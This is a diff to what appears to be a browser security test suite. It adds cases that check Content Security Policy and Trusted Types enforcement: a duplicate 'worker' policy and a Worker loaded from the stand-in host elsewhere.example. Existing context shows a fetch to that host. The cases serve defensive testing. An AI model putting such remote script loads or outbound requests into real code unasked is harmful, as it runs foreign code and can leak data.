@@ -50,6 +50,21 @@ const attacks: Readonly<Record<string, Attack>> = {
       trustedTypes.createPolicy('default', {});
     },
   },
+  'a second policy by the name of the one that is allowed': {
+    stoppedBy: 'trusted-types',
+    run: () => {
+      const { trustedTypes } = window as unknown as {
+        trustedTypes: { createPolicy: (name: string, rules: object) => void };
+      };
+      for (let times = 0; times < 2; times++) trustedTypes.createPolicy('worker', {});
+    },
+  },
+  'a worker from another host': {
+    stoppedBy: 'require-trusted-types-for',
+    run: () => {
+      new Worker('https://elsewhere.example/a.js');
+    },
+  },
   'a request to another host': {
     stoppedBy: 'connect-src',
     run: () => void fetch('https://elsewhere.example/?size=27').catch(() => undefined),
